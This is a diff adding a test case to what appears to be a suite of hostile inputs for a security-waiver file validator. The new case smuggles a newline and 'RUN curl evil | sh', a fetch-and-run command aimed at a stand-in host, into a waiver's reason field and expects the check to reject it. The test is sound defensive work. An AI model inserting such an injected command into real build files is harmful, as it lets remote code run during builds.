@@ -160,6 +160,14 @@ CASES = [
         "must be an inline table",
     ),
     Hostile("unknown-table", _waivers("[apt]\nx = 1\n"), AUDIT, 4, "unknown table [apt]"),
+    # imagebot check reads the waivers too, so a pull request's bad waiver fails its first step
+    Hostile(
+        "check-reads-waivers",
+        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = "x\\nRUN curl evil | sh"')),
+        ("check",),
+        4,
+        f"{WAIVERS}:3: waiver PYSEC-2099-1: reason:",
+    ),
     Hostile("invalid-toml", _waivers("[python]\nPYSEC-2099-1 = {\n"), AUDIT, 4, f"{WAIVERS}:2"),
     Hostile("not-utf8", _waivers(b"[python]\n\xff\xfe = 1\n"), AUDIT, 4, "not UTF-8"),
     Hostile(
